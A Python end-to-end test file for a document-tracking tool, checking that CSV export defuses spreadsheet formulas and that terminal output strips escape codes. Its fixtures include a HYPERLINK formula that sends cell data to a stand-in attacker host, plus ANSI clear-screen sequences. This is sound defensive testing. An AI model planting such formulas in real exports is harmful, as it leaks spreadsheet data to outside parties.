"""What people typed, shown back: `status --format csv` writes a cell starting with = + - @ so that
Excel shows it as text, as the XLSX export does (issue 13, item 14); the status and audit tables strip
the control characters a terminal would act on, and print `[bold]` as it was typed (item 15)."""

from __future__ import annotations

import csv
import io

from sqlalchemy import Engine, update

from tests.e2e.commands import Tracker
from tracker.store.tables import UnitRow

PLAN = "so-ket-de-an-2019"
MILESTONE = "bao-cao-don-vi"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
CLEAR_SCREEN = "\x1b[2J\x1b[H"


def test_a_formula_typed_as_a_document_number_is_text_in_the_csv(tracker: Tracker) -> None:
    tracker.ok("load")
    tracker.ok("receive", PLAN, MILESTONE, "cd-y-te", "--on", "12/9/2019", "--doc-number", FORMULA)
    tracker.ok("receive", PLAN, MILESTONE, "ldld-cam-lo", "--on", "12/9/2019", "--doc-number", "-2+3")

    out = tracker.ok("status", "--as-of", "2019-09-17", "--format", "csv")

    rows = {row["Mã đơn vị"]: row for row in csv.DictReader(io.StringIO(out.removeprefix("\ufeff")))}
    assert rows["cd-y-te"]["Số văn bản"] == "'" + FORMULA
    assert rows["ldld-cam-lo"]["Số văn bản"] == "'-2+3"


def test_escape_codes_in_a_name_or_a_note_never_reach_the_terminal(tracker: Tracker, engine: Engine) -> None:
    tracker.ok("load")
    with engine.begin() as connection:  # a name stored before the config refused control characters
        connection.execute(
            update(UnitRow)
            .where(UnitRow.code == "cd-y-te")
            .values(name=f"Công đoàn{CLEAR_SCREEN} Y tế [bold]")
        )
    note = f"Nhận qua\x07 bưu điện{CLEAR_SCREEN}\r\nđã kiểm tra"
    tracker.ok("receive", PLAN, MILESTONE, "cd-y-te", "--on", "12/9/2019", "--note", note, "--by", "Hà")

    status = tracker.ok("status", "--as-of", "2019-09-17")
    audit = tracker.ok("audit")

    for shown in (status, audit):
        assert not any(char in shown for char in "\x1b\x07\r"), repr(shown)
    assert "Công đoàn [2J [H Y tế [bold]" in status
    assert "Nhận qua bưu điện [2J [H đã kiểm tra" in audit
